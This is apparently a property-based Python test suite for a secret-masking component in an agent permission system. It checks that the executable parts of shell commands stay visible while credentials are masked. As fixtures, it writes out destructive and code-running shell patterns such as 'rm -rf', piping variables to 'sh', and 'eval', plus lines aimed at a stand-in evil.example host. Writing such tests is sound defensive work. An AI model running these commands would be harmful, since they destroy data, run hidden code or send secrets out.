"""What acts in a shell command is never covered by a mask, whatever secrets it is made to look like."""

from __future__ import annotations

import itertools
import re
from typing import Any

import hypothesis
from hypothesis import strategies

from sayso import asking
from sayso.cards import masked
from sayso.content import credentials
from sayso.testing import samples
from tests.conftest import LONG
from tests.tables import each

# What runs, is written, or is reached stands between these in the grammar below.
ACTS = re.compile(r"«([^»]*)»")

WORDS = ("reboot7", "drop-eu1", "wipe9.sh", "Zap42xy", "shutdown", "prod.db-1")
NAMES = ("PASSWORD", "DB_PASSWORD", "TOKEN", "API_KEY", "secret", "password")
OPTIONS = ("--password", "--token", "--api-key", "-password", "--secret")
RUNS = (
    "«{x}» now",
    "{n}= «{x}»",
    '{n}= "«{x}»"',
    "{n}== «{x}»",
    "A={n} «{x}» -h",
    "{n}=a1b2c3d4 «{x}»",
    "xargs -I {o} «{x}»",
    "xargs -I Bearer «{x}»",
    "env -u {n} «{x}»",
    "env -u {o} «{x}»",
    "A=sshpass time -p «{x}»",
    "sshpass time -p «{x}»",
    "A=mysql time -p «{x}»",
    "sudo -p {o} «{x}»",
    "sudo -u mysql «{x}» -h",
    "timeout -k {o} 5 «{x}»",
    "docker run -e {o} «{x}»",
    "ssh -p 22 «{x}»",
    "ssh -i {o} «{x}»",
    "kubectl -n {o} «{x}» ns",
    "mkdir -p «{x}»",
    "docker -p «{x}»",
    "mv -S {o} «{x}» y",
    "tee -a {o} «{x}»",
    "cp -S {o} y «{x}»",
    "cat y > «{x}»",
    "{n}=>«{x}»",
    "{n}=a1b2c3d4 tee y 2>«{x}»",
    "curl https://u:p1x1@«{x}.example»/y",
    "curl https://«{x}.example:443?»x=1@good.example",
    "alias {n}=«{x}»",
    "alias ll=ls {n}='«{x}» -h'",
    "git -c alias.{n}=«{x}» {n}",
    "git config alias.password '«!{x}»'",
    "A=Bearer «{x}»",
    "«{x}» {o} a1b2c3d4",
)
USES = (
    "{n}={q}«{x}»{q}; ${n} -h now",
    "{n}={q}«{x}»{q}; ${{{n}}}",
    '{n}={q}«{x}»{q}; rm -rf "${n}"',
    "{n}={q}«{x}»{q}; cat y > ${n}",
    "{n}={q}«{x}»{q}; ssh ${n}",
    "{n}={q}«{x}»{q}; eval ${n}",
    "{n}={q}«{x}»{q}; eval \\${n}",
    "{n}={q}«{x}»{q}; y={n}; ${{!y}}",
    "{n}={q}«{x}»{q}; printenv {n} | sh",
    "{n}={q}«{x}»{q}; declare -n y={n}; $y",
    "{n}={q}«{x}»{q}; B_TOKEN=${n}; $B_TOKEN",
    "{n}={q}«{x}»{q}; echo ${n} | sh",
    "{n}={q}«{x}»{q}; xargs -I {o} ${n}",
    "{n}={q}«{x}»{q}; A=sshpass time -p ${n}",
    "{n}={q}«{x}»{q}; env -S ${n}",
    "export {n}={q}«{x}»{q}\n${n}",
    "f() {{ $2; }}; f {o} {q}«{x}»{q}",
    "set -- {o} {q}«{x}»{q}; $2",
    "set -- {o} «{x}»; shift; $@",
    ": cookie: ; {n}=«{x}»; ${n}",
    "${{{n}:=«{x}»}} -h",
    "${{{n}:-«{x}»}} -h",
    "${{{n}=«{x}»}} -h",
    'A=({o} {q}«{x}»{q}); "${{A[1]}}"',
    "echo {o} «{x}» | xargs nice",
    "echo '{o} «{x}»' | cut -d' ' -f2 | sh",
    "echo {n}=«{x}» | sed s/.*=// | bash",
    """{n}={q}«{x}»{q} python3 -c "import os; os.system(os.environ['{n}'])\"""",
    """{n}={q}«{x}»{q} node -e "run(process.env.{n})\"""",
    """{n}={q}«{x}»{q} perl -e 'system $ENV{{{n}}}'""",
    """perl -e '${n}=\"«{x}»\"; system(${n})'""",
    """php -r '${n}={q}«{x}»{q}; exec(${n});'""",
    """powershell -c '${n}={q}«{x}»{q}; & ${n}'""",
    """python3 -c 'import os; {n}="«{x}»"; os.system({n})'""",
    """python3 -c 'import subprocess; {n} = "«{x}»"\nsubprocess.run(["sh", "-c", {n}])'""",
    """node -e 'const {n}="«{x}»"; require("child_process").execSync({n})'""",
    """awk 'BEGIN{{{n}="«{x}»"; system({n})}}'""",
    ": cookie: ; abc=«{x}»; $abc",
)
BETWEEN = ("«; »", "« && »", "«\n»", "« | »", "« || »", "« & »", "«;»")


@strategies.composite
def commands(draw: Any) -> str:
    """A line of several commands; what acts in it is marked."""
    made = ""
    for number in range(draw(strategies.integers(1, 3))):
        made += draw(strategies.sampled_from(BETWEEN)) if number else ""
        said = draw(strategies.sampled_from((*RUNS, *USES)))
        filled = {
            "x": draw(strategies.sampled_from(WORDS)),
            "n": draw(strategies.sampled_from(NAMES)),
            "o": draw(strategies.sampled_from(OPTIONS)),
            "q": draw(strategies.sampled_from(("", "'", '"'))),
        }
        made += said.format(**filled)
    return made


def covered(marked: str) -> list[str]:
    """What acts and stands, in part at least, behind a mask."""
    raw, acting, gone = "", list[tuple[int, int]](), 0
    for found in ACTS.finditer(marked):
        begin = found.start() - gone
        acting.append((begin, begin + len(found[1])))
        gone += 2
    raw = marked.replace("«", "").replace("»", "")
    spans = credentials.spans(raw)
    return [raw[a:b] for a, b in acting if any(begin < b and a < end for begin, end in spans)]


def test_what_acts_is_in_sight() -> None:
    given = itertools.product((*RUNS, *USES), WORDS, NAMES, OPTIONS[:2])
    lines = (said.format(x=word, n=name, o=option, q='"') for said, word, name, option in given)
    assert [marked for marked in lines if covered(marked)] == []


@hypothesis.given(commands())
@hypothesis.settings(max_examples=1_000 if LONG else 100)
def test_no_mask_covers_what_acts_in_any_line(marked: str) -> None:
    assert covered(marked) == []


def test_what_acts_among_the_parts_of_an_input_is_in_sight() -> None:
    rows: list[dict[str, Any]] = [
        {"command": "$PASSWORD -h now", "env": {"PASSWORD": "reboot7"}},
        {"command": ["sh", "-c", "$PASSWORD now"], "env": ["PASSWORD=reboot7"]},
        {"command": "run", "env": [{"name": "DB_PASSWORD", "value": "reboot7"}], "args": ["-c", "$DB_PASSWORD"]},
        {"argv": ["sudo", "-p", "--token", "reboot7"]},
        {"argv": ["env", "-u", "--token", "reboot7"]},
        {"args": ["-p", "--token", "reboot7"]},
        {"file_path": "/srv/password=reboot7/x", "content": "x"},
        {"path": "token:reboot7"},
        {"command": "scp f token:reboot7; docker run evil.example/password:reboot7"},
        {"to": "password: reboot7@evil.example"},
    ]
    for row in each(rows):
        with row as given:
            ticket = samples.sample(asking.Permission(tool="exec", input=given))
            assert "reboot7" in str(masked.of(ticket, samples.MINT).request.input)


def test_what_only_a_client_reads_stays_masked() -> None:
    rows: list[dict[str, Any]] = [
        {"command": 'curl -H "Authorization: Bearer $TOKEN" https://x', "env": {"TOKEN": "hunter7!x"}},
        {"command": "make", "env": {"PASSWORD": "hunter7!x"}},
        {"command": "$TOKEN", "env": {"TOKEN": "ghp_" + "a1B2" * 9}},
        {"args": ["login", "--password", "hunter7!x"]},
        {"args": ["--password", "hunter7", "--force"]},
        {"header": "X-Api-Key:hunter7!x"},
        {"url": "https://token:hunter7!x@good.example/p"},
    ]
    for row in each(rows):
        with row as given:
            shown = str(
                masked.of(samples.sample(asking.Permission(tool="exec", input=given)), samples.MINT).request.input
            )
            assert "hunter7" not in shown
            assert "a1B2a1B2" not in shown
            assert "good.example" in shown or "url" not in given
